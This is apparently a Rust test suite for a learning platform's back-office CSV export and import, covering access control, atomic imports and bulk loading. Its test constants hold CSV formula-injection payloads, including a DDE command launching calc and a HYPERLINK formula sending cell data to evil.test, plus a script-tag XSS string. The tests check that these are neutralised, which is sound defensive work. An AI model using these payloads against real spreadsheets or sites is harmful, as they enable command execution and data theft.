//! The back office's CSV files: exports read back by Python's csv module
//! with hostile text neutralised and otherwise intact; who may download and
//! import; an import stored whole or not at all (one bad row, a clash, a
//! broken quote, another encoding, a file too large); and 10,000 courses
//! imported at once.

use crate::enrolment::{people, set, two_sessions};
use crate::helpers::{TestApp, TestResponse, python_check};
use crate::visitor::{ORIGIN, Visitor, count};
use axum::{body::Body, http::Request, http::header};
use lyceum::model::account::Role;
use scraper::{Html, Selector};
use serde_json::Value;

const PASSWORD: &str = "correct horse battery staple";

/// A signed-in visitor of `role`, from an address of their own.
async fn person<'a>(app: &'a TestApp, role: Role, n: u8) -> (Visitor<'a>, i64) {
    let email = format!("{}{n}@csv.test", role.as_str());
    let id =
        app.state.accounts.create_confirmed(&email, &format!("{} {n}", role.label()), PASSWORD, role).await.unwrap();
    let mut visitor = Visitor::from_ip(app, format!("198.51.100.{}", 10 + n).parse().unwrap());
    let res = visitor.call("account/login", &[("email", &email), ("password", PASSWORD)]).await;
    assert!(res.status < 400, "login: {} {}", res.status, res.body);
    (visitor, id.expect("a new address"))
}

const BOUNDARY: &str = "lyceum-test-boundary-5b8e1c";

/// The import form as a browser sends it.
fn form(kind: &str, file: &[u8]) -> Vec<u8> {
    let mut body = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\n{kind}\r\n\
         --{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"import.csv\"\r\n\
         Content-Type: text/csv\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(file);
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    body
}

/// Posts the import form with `file`; `declare_length` sends its `Content-Length`.
async fn import(visitor: &mut Visitor<'_>, kind: &str, file: &[u8], declare_length: bool) -> TestResponse {
    let body = form(kind, file);
    let mut builder = Request::builder()
        .method("POST")
        .uri("/admin/import")
        .header(header::ORIGIN, ORIGIN)
        .header(header::CONTENT_TYPE, format!("multipart/form-data; boundary={BOUNDARY}"))
        .header(header::ACCEPT, "text/html");
    if let Some(cookie) = visitor.cookie() {
        builder = builder.header(header::COOKIE, cookie);
    }
    if declare_length {
        builder = builder.header(header::CONTENT_LENGTH, body.len());
    }
    visitor.send(builder, Body::from(body)).await
}

/// A downloaded CSV, read by Python's csv module.
pub(crate) fn read_back(res: &TestResponse) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("export.csv");
    std::fs::write(&path, res.body.as_bytes()).unwrap();
    python_check("read_csv.py", &[path.to_str().unwrap()]).unwrap_or_else(|e| panic!("Python cannot read it: {e}"))
}

fn rows(file: &Value) -> &Vec<Value> {
    file["rows"].as_array().unwrap()
}

fn assert_attachment(res: &TestResponse, name_starts: &str) {
    assert_eq!(res.status, 200, "{}", res.body);
    assert_eq!(res.header("content-type"), Some("text/csv; charset=utf-8"));
    let disposition = res.header("content-disposition").unwrap();
    assert!(disposition.starts_with(&format!("attachment; filename=\"{name_starts}")), "{disposition}");
    let name = disposition.trim_start_matches("attachment; filename=\"").trim_end_matches('"');
    assert!(
        name.ends_with(".csv") && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.'),
        "{name}"
    );
}

async fn a_category(app: &TestApp) -> String {
    lyceum::with_pool!(&app.state.db, |pool| {
        sqlx::query_scalar("SELECT slug FROM categories ORDER BY id LIMIT 1").fetch_one(pool).await.unwrap()
    })
}

async fn audit_count(app: &TestApp) -> i64 {
    count(app, "SELECT COUNT(*) FROM audit_log WHERE entity <> ''").await
}

const HOSTILE_TITLE: &str = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"Click, \"\"here\"\"\")";
const HOSTILE_SUMMARY: &str = "+cmd|' /C calc'!A0";
const HOSTILE_OUTCOMES: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const HOSTILE_DESCRIPTION: &str = "-2+3, a \"quote\", a comma\nand a second line";
const HOSTILE_NAME: &str = "=cmd|' /C calc'!A0, \"Mallory\"";

#[tokio::test]
async fn exports_read_back_by_pythons_csv_module_with_formulas_neutralised() {
    let app = TestApp::demo().await;
    let (mut staff, _) = person(&app, Role::Staff, 1).await;
    let category = a_category(&app).await;
    let fields = [
        ("title", HOSTILE_TITLE),
        ("slug", "hostile-csv"),
        ("category", category.as_str()),
        ("summary", HOSTILE_SUMMARY),
        ("description", HOSTILE_DESCRIPTION),
        ("outcomes", HOSTILE_OUTCOMES),
        ("prerequisites", "Ünïcode, ça va"),
        ("level", "beginner"),
        ("duration_hours", "21"),
        ("price", "1495.50"),
        ("language", "en"),
        ("awards_certificate", "on"),
    ];
    let res = staff.call("admin/courses/save", &fields).await;
    assert!(res.status < 400, "{} {}", res.status, res.body);

    let courses = staff.get("/admin/export/courses.csv").await;
    assert_attachment(&courses, "courses-");
    let file = read_back(&courses);
    assert_eq!(file["bom"], true, "a byte order mark, for spreadsheets to read UTF-8");
    let headings: Vec<&str> = file["headings"].as_array().unwrap().iter().map(|h| h.as_str().unwrap()).collect();
    for column in [
        "id",
        "state",
        "slug",
        "title",
        "category",
        "summary",
        "description",
        "outcomes",
        "prerequisites",
        "level",
        "duration_hours",
        "price",
        "language",
        "awards_certificate",
    ] {
        assert!(headings.contains(&column), "{column} in {headings:?}");
    }
    assert_eq!(rows(&file).len() as i64, count(&app, "SELECT COUNT(*) FROM courses").await);
    let hostile = rows(&file).iter().find(|r| r["slug"] == "hostile-csv").expect("the course is exported");
    assert_eq!(hostile["title"], format!("'{HOSTILE_TITLE}"));
    assert_eq!(hostile["summary"], format!("'{HOSTILE_SUMMARY}"));
    assert_eq!(hostile["outcomes"], format!("'{HOSTILE_OUTCOMES}"));
    assert_eq!(hostile["description"], format!("'{HOSTILE_DESCRIPTION}"));
    assert_eq!(hostile["prerequisites"], "Ünïcode, ça va");
    assert_eq!((hostile["state"].as_str(), hostile["price"].as_str()), (Some("draft"), Some("1495.50")));
    assert_eq!(hostile["awards_certificate"], "yes");
    for row in rows(&file) {
        for (_, cell) in row.as_object().unwrap() {
            let cell = cell.as_str().unwrap();
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell a spreadsheet would run: {cell:?}");
        }
    }

    // Dates, and one session's roster with a hostile learner on it.
    let (_, session, _) = two_sessions(&app, (3, 3)).await;
    let learner = people(&app, "csv-learner", 1, Role::Learner).await.remove(0);
    lyceum::with_pool!(&app.state.db, |pool| {
        sqlx::query("UPDATE users SET name = $1 WHERE id = $2")
            .bind(HOSTILE_NAME)
            .bind(learner.id)
            .execute(pool)
            .await
            .map(|_| ())
            .unwrap()
    });
    app.state.enrolments.enrol(&learner, learner.id, session).await.unwrap();
    let sessions = staff.get("/admin/export/sessions.csv").await;
    assert_attachment(&sessions, "sessions-");
    let file = read_back(&sessions);
    assert_eq!(rows(&file).len() as i64, count(&app, "SELECT COUNT(*) FROM course_sessions").await);
    let row = rows(&file).iter().find(|r| r["id"] == session.to_string().as_str()).expect("the session");
    let (starts, tz): (chrono::DateTime<chrono::Utc>, String) = lyceum::with_pool!(&app.state.db, |pool| {
        sqlx::query_as("SELECT starts_at, timezone FROM course_sessions WHERE id = $1")
            .bind(session)
            .fetch_one(pool)
            .await
            .unwrap()
    });
    let zone: chrono_tz::Tz = tz.parse().unwrap();
    assert_eq!(row["starts_at_utc"], starts.format("%Y-%m-%dT%H:%M:%SZ").to_string());
    assert_eq!(row["date"], starts.with_timezone(&zone).format("%Y-%m-%d").to_string());
    assert_eq!(row["start_time"], starts.with_timezone(&zone).format("%H:%M").to_string(), "the academy's local time");
    assert_eq!(row["seats_taken"], "1");
    for column in
        ["course", "end_time", "ends_at_utc", "mode", "campus", "instructor", "capacity", "waitlisted", "status"]
    {
        assert!(row.get(column).is_some(), "{column}");
    }
    let course: String = lyceum::with_pool!(&app.state.db, |pool| {
        sqlx::query_scalar("SELECT c.slug FROM courses c JOIN course_sessions s ON s.course_id = c.id WHERE s.id = $1")
            .bind(session)
            .fetch_one(pool)
            .await
            .unwrap()
    });
    let one_course = read_back(&staff.get(&format!("/admin/export/sessions.csv?course={course}")).await);
    assert!(rows(&one_course).iter().all(|r| r["course"] == course.as_str()) && !rows(&one_course).is_empty());

    let roster = staff.get(&format!("/admin/sessions/{session}/roster.csv")).await;
    assert_attachment(&roster, "roster-");
    let file = read_back(&roster);
    let entry = rows(&file).iter().find(|r| r["email"] == learner.email.as_str()).expect("the learner");
    assert_eq!(entry["name"], format!("'{HOSTILE_NAME}"), "neutralised, and otherwise as typed");
    assert_eq!(entry["status"], "confirmed");

    // The pages link to the files.
    let id: i64 = count(&app, "SELECT id FROM courses WHERE slug = 'hostile-csv'").await;
    for (page, link) in [
        ("/admin/courses".to_string(), "/admin/export/courses.csv".to_string()),
        (format!("/admin/courses/{id}"), "/admin/export/sessions.csv?course=hostile-csv".to_string()),
        (format!("/admin/sessions/{session}"), format!("/admin/sessions/{session}/roster.csv")),
    ] {
        let html = Html::parse_document(&staff.get(&page).await.body);
        let found = Selector::parse(&format!("a[href=\"{link}\"][download]")).unwrap();
        assert_eq!(html.select(&found).count(), 1, "{page} links to {link}");
    }
}

#[tokio::test]
async fn learners_and_instructors_can_neither_export_nor_import() {
    let app = TestApp::demo().await;
    let (mut learner, _) = person(&app, Role::Learner, 2).await;
    let (mut instructor, instructor_id) = person(&app, Role::Instructor, 3).await;
    let (_, session, other_session) = two_sessions(&app, (3, 3)).await;
    let category = a_category(&app).await;
    let file = format!(
        "title,category,summary,description,level,duration_hours,price,language\n\
         Sneaky course,{category},Short.,Long.,beginner,1,1,en\n"
    );
    let before = (count(&app, "SELECT COUNT(*) FROM courses").await, audit_count(&app).await);
    for visitor in [&mut learner, &mut instructor] {
        for path in ["/admin/export/courses.csv", "/admin/export/sessions.csv", "/admin/import"] {
            let res = visitor.get(path).await;
            assert_eq!(res.status, 403, "{path}: {}", res.body);
        }
        let res = import(visitor, "courses", file.as_bytes(), true).await;
        assert_eq!(res.status, 403, "import: {}", res.body);
    }
    assert_eq!(learner.get(&format!("/admin/sessions/{session}/roster.csv")).await.status, 403);
    assert_eq!((count(&app, "SELECT COUNT(*) FROM courses").await, audit_count(&app).await), before, "nothing stored");
    assert_eq!(count(&app, "SELECT COUNT(*) FROM courses WHERE slug = 'sneaky-course'").await, 0);

    // An instructor downloads the roster of their own session, and no other
    // (another's is not found, as its page is not).
    set(&app, &format!(
        "UPDATE course_sessions SET instructor_id = (SELECT MIN(id) FROM instructors) WHERE id = {session} AND instructor_id IS NULL"
    ))
    .await;
    set(&app, &format!(
        "UPDATE instructors SET user_id = {instructor_id} WHERE id = (SELECT instructor_id FROM course_sessions WHERE id = {session})"
    ))
    .await;
    let own = instructor.get(&format!("/admin/sessions/{session}/roster.csv")).await;
    assert_eq!(own.status, 200, "{}", own.body);
    set(&app, &format!("UPDATE course_sessions SET instructor_id = NULL WHERE id = {other_session}")).await;
    assert_eq!(instructor.get(&format!("/admin/sessions/{other_session}/roster.csv")).await.status, 404);
    // Nobody signed in is sent nothing.
    let res = Visitor::new(&app).get("/admin/export/courses.csv").await;
    assert!(res.status == 401 || res.status == 303, "{}", res.status);
    assert!(!res.body.contains("hostile") && !res.body.contains("\u{feff}"));
}

/// The cells of the problems table: (row, column, problem).
fn problems(res: &TestResponse) -> Vec<(String, String, String)> {
    let html = Html::parse_document(&res.body);
    let rows = Selector::parse("table.import-problems tbody tr").unwrap();
    let cell = Selector::parse("td").unwrap();
    html.select(&rows)
        .map(|row| {
            let cells: Vec<String> = row.select(&cell).map(|c| c.text().collect::<String>()).collect();
            (cells[0].clone(), cells[1].clone(), cells[2].clone())
        })
        .collect()
}

const COURSE_HEAD: &str =
    "slug,title,category,summary,description,level,duration_hours,price,language,awards_certificate";

#[tokio::test]
async fn a_file_with_one_bad_row_stores_nothing_and_names_its_row_and_column() {
    let app = TestApp::demo().await;
    let (mut staff, _) = person(&app, Role::Staff, 1).await;
    let category = a_category(&app).await;
    let existing: String = lyceum::with_pool!(&app.state.db, |pool| {
        sqlx::query_scalar("SELECT slug FROM courses ORDER BY id LIMIT 1").fetch_one(pool).await.unwrap()
    });
    let before = (count(&app, "SELECT COUNT(*) FROM courses").await, audit_count(&app).await);
    let good = |slug: &str| format!("{slug},A title,{category},Short.,Long.,beginner,10,100,en,no\n");
    // Row 3 has an unknown level; the rest are good.
    let file = format!(
        "{COURSE_HEAD}\n{}{}{}",
        good("first-good"),
        format!("bad-level,A title,{category},Short.,Long.,expert,10,100,en,no\n"),
        good("third-good")
    );
    let res = import(&mut staff, "courses", file.as_bytes(), true).await;
    assert_eq!(res.status, 422, "{}", res.body);
    let found = problems(&res);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!((found[0].0.as_str(), found[0].1.as_str()), ("3", "level"));
    assert_eq!((count(&app, "SELECT COUNT(*) FROM courses").await, audit_count(&app).await), before, "nothing stored");

    // Clashes: the same slug twice, a slug that exists, a category that
    // does not, a missing column; hostile text shows as text.
    let hostile = "<script>alert(1)</script>";
    let file = format!(
        "{COURSE_HEAD}\n{}{}{}{}",
        good("twice"),
        good("twice"),
        good(&existing),
        format!("fine-slug,A title,{hostile},Short.,Long.,beginner,10,100,en,no\n"),
    );
    let res = import(&mut staff, "courses", file.as_bytes(), true).await;
    assert_eq!(res.status, 422, "{}", res.body);
    let found: Vec<(String, String)> = problems(&res).into_iter().map(|(row, column, _)| (row, column)).collect();
    let expected = [("3", "slug"), ("4", "slug"), ("5", "category")].map(|(r, c)| (r.to_string(), c.to_string()));
    assert_eq!(found, expected);
    let html = Html::parse_document(&res.body);
    assert_eq!(html.select(&Selector::parse("main script, table script").unwrap()).count(), 0, "markup got through");
    assert!(html.root_element().text().collect::<String>().contains(hostile), "shown as text");
    let res = import(&mut staff, "courses", b"title,category\nx,y\n", true).await;
    assert_eq!(res.status, 422);
    assert!(problems(&res).iter().any(|(row, column, _)| row == "1" && column == "price"), "a missing column");

    // Sessions: one row names a course that does not exist.
    let sessions = count(&app, "SELECT COUNT(*) FROM course_sessions").await;
    // Two years ahead: clear of the demo's own dates.
    let next_year = chrono::Datelike::year(&chrono::Utc::now()) + 2;
    let file = format!(
        "course,date,start_time,end_time,mode,campus,capacity,weeks,allow_holidays\n\
         {existing},{next_year}-03-09,09:00,17:00,online,,12,2,yes\n\
         no-such-course,{next_year}-03-10,09:00,17:00,online,,12,,yes\n"
    );
    let res = import(&mut staff, "sessions", file.as_bytes(), true).await;
    assert_eq!(res.status, 422, "{}", res.body);
    let found = problems(&res);
    assert_eq!((found[0].0.as_str(), found[0].1.as_str()), ("3", "course"), "{found:?}");
    assert_eq!(count(&app, "SELECT COUNT(*) FROM course_sessions").await, sessions);
    assert_eq!((count(&app, "SELECT COUNT(*) FROM courses").await, audit_count(&app).await), before, "nothing stored");

    // The same file without the bad row: every date stored, each audited.
    let file: String = file.lines().filter(|l| !l.starts_with("no-such")).map(|l| format!("{l}\n")).collect();
    let res = import(&mut staff, "sessions", file.as_bytes(), true).await;
    assert_eq!(res.status, 303, "{}", res.body);
    assert_eq!(res.header("location"), Some("/admin/import?imported=sessions&count=2"));
    assert_eq!(count(&app, "SELECT COUNT(*) FROM course_sessions").await, sessions + 2);
    assert_eq!(audit_count(&app).await, before.1 + 2);
    let page = staff.get("/admin/import?imported=sessions&count=2").await;
    assert!(page.body.contains("Imported 2 sessions."), "the success notice");
    // Sent again, it is refused: the course has those dates already.
    let again = import(&mut staff, "sessions", file.as_bytes(), true).await;
    assert_eq!(again.status, 422, "{}", again.body);
    assert_eq!(count(&app, "SELECT COUNT(*) FROM course_sessions").await, sessions + 2);
}

#[tokio::test]
async fn broken_quoting_another_encoding_and_an_oversized_file_are_refused_clearly() {
    let app = TestApp::demo().await;
    let (mut staff, _) = person(&app, Role::Staff, 1).await;
    let category = a_category(&app).await;
    let before = (count(&app, "SELECT COUNT(*) FROM courses").await, audit_count(&app).await);
    let shown = |res: &TestResponse| Html::parse_document(&res.body).root_element().text().collect::<String>();

    let open_quote = format!("{COURSE_HEAD}\nok,\"A title,{category},Short.,Long.,beginner,10,100,en,no\n");
    let res = import(&mut staff, "courses", open_quote.as_bytes(), true).await;
    assert_eq!(res.status, 400, "{}", res.body);
    assert!(shown(&res).contains("Row 2 cannot be read as CSV: a quote is never closed."), "{}", shown(&res));

    let mut latin1 = format!("{COURSE_HEAD}\nok,Caf").into_bytes();
    latin1.extend_from_slice(b"\xe9 cr\xe8me,");
    latin1.extend_from_slice(format!("{category},Short.,Long.,beginner,10,100,en,no\n").as_bytes());
    let res = import(&mut staff, "courses", &latin1, true).await;
    assert_eq!(res.status, 400, "{}", res.body);
    assert!(shown(&res).contains("The file is not in UTF-8 (row 2"), "{}", shown(&res));

    let big = vec![b'a'; 5 * 1024 * 1024 + 1];
    for declared in [true, false] {
        let res = import(&mut staff, "courses", &big, declared).await;
        assert_eq!(res.status, 413, "Content-Length declared: {declared}");
    }
    // A BOM is welcome, and so is any order of columns.
    let file = format!(
        "\u{feff}language,price,duration_hours,level,description,summary,category,title\n\
         en,100,10,beginner,Long.,Short.,{category},Made with a BOM\n"
    );
    let res = import(&mut staff, "courses", file.as_bytes(), true).await;
    assert_eq!(res.status, 303, "{}", res.body);
    assert_eq!(count(&app, "SELECT COUNT(*) FROM courses WHERE slug = 'made-with-a-bom'").await, 1);
    assert_eq!(count(&app, "SELECT COUNT(*) FROM courses").await, before.0 + 1);
}

#[tokio::test]
async fn an_exported_file_comes_back_as_it_went_and_existing_slugs_are_refused() {
    let app = TestApp::demo().await;
    let (mut staff, _) = person(&app, Role::Staff, 1).await;
    let exported = staff.get("/admin/export/courses.csv").await;
    let n = count(&app, "SELECT COUNT(*) FROM courses").await;
    let res = import(&mut staff, "courses", exported.body.as_bytes(), true).await;
    assert_eq!(res.status, 422, "{}", res.body);
    let found = problems(&res);
    assert!(found.iter().all(|(_, column, _)| column == "slug"), "only the taken addresses: {found:?}");
    assert_eq!(found.len() as i64, n.min(200));
    // Under new addresses, the same file imports whole.
    let renamed = exported
        .body
        .replace("\",\"draft\",\"", "\",\"draft\",\"copy-")
        .replace("\",\"published\",\"", "\",\"published\",\"copy-");
    let res = import(&mut staff, "courses", renamed.as_bytes(), true).await;
    assert_eq!(res.status, 303, "{:?}", problems(&res));
    assert_eq!(count(&app, "SELECT COUNT(*) FROM courses").await, 2 * n);
}

#[tokio::test]
async fn ten_thousand_courses_import_in_one_go() {
    let app = TestApp::demo().await;
    let (mut staff, _) = person(&app, Role::Staff, 1).await;
    let category = a_category(&app).await;
    let before = (count(&app, "SELECT COUNT(*) FROM courses").await, audit_count(&app).await);
    let mut file = String::from(
        "slug,title,category,summary,description,outcomes,level,duration_hours,price,language,awards_certificate\n",
    );
    for i in 0..10_000 {
        file.push_str(&format!(
            "bulk-{i},Bulk course {i},{category},A course made in bulk.,\"Three days of practice, number {i}.\n\nBring a laptop.\",\
             \"Load data\nPlot it\",intermediate,{},{}.50,en,yes\n",
            7 + i % 30,
            100 + i
        ));
    }
    assert!(file.len() < 5 * 1024 * 1024);
    let started = std::time::Instant::now();
    let res = import(&mut staff, "courses", file.as_bytes(), true).await;
    let took = started.elapsed();
    eprintln!(
        "csv import: 10,000 courses ({} KiB) on {:?} in {:.2} s",
        file.len() / 1024,
        app.state.db.backend(),
        took.as_secs_f64()
    );
    assert_eq!(res.status, 303, "{:?}", problems(&res));
    assert_eq!(res.header("location"), Some("/admin/import?imported=courses&count=10000"));
    assert_eq!(count(&app, "SELECT COUNT(*) FROM courses").await, before.0 + 10_000);
    assert_eq!(audit_count(&app).await, before.1 + 10_000, "one audit entry per course");
    let list = staff.get("/admin/courses?q=bulk-9999").await;
    assert!(list.body.contains("Bulk course 9999"), "in the back office's list at once");
    let price: i64 = count(&app, "SELECT price_cents FROM courses WHERE slug = 'bulk-42'").await;
    assert_eq!(price, 14_250);
}
